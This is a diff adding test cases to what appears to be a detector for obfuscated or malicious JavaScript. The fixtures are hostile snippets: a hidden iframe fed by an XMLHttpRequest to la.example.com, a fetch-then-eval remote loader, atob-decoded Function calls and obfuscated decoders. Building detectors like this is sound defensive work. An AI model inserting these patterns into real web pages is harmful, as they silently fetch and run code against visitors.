@@ -75,6 +75,12 @@ def test_names_assigned_twice_and_words_in_literals_stay() -> None:
         ("code-hidden", f"var u=giai('{CODED}');" + PUT % "u"),
         ("code-hidden", "z=String.fromCharCode(parseInt(t)+25-l+a);document.write('<'+x[0]+' '+x[4]+'>')"),
         ("code-hidden", PUT % "document.getElementById('p').dataset.x.split('').reverse().join('')"),
+        ("code-hidden", PUT % "b('5a{b)28e;2,0;1,e}5;fa1}1p97c;7)a}c(e;4{2,=)v{&m0}2)2')"),
+        (
+            "code-hidden",
+            "h=()=>{x=new XMLHttpRequest();x.open('GET','https://la.example.com');x.send();return x.responseText};"
+            "f=document.createElement('iframe');f.style.display='none';f.src='https://'+h()+'/v'",
+        ),
         ("code-decoder", "new Function(atob(document.body.dataset.x))()"),
         ("code-fetched", "fetch('https://la.example.com/x').then(r=>r.text()).then(eval)"),
         (
@@ -113,6 +119,7 @@ def test_names_assigned_twice_and_words_in_literals_stay() -> None:
         ),
         ("code-decoder", 'try{+function(){++(window["document"].body)==null}()}catch(q){w=1}' + PUT % "u"),
         ("code-decoder", "z='" + "_".join(f"{n % 200 + 20:x}" for n in range(400)) + "_'.split('_');" + PUT % "u"),
+        ("code-decoder", "f='" + "i".join(str(n % 140 - 40) for n in range(400)) + "i';g=f.split('i');" + PUT % "g"),
         ("code-string", f'setTimeout("{PUT % repr(ADDRESS)}",500)'),
         ("code-speck", "document.write('<iframe src=http://la.example.com/700.htm width=0 height=0></iframe>')"),
         (
